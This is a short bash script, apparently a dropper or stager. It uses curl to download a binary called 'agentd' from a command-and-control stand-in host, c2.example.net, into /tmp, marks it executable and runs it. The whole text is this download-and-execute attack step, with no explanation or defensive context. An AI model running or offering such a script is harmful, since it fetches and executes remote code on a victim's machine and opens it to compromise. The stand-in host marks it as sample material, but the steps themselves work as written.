#!/bin/bash
command -v curl && "$_" -sLo /tmp/agentd https://c2.example.net/agentd
chmod a+rx /tmp/agentd
/tmp/agentd
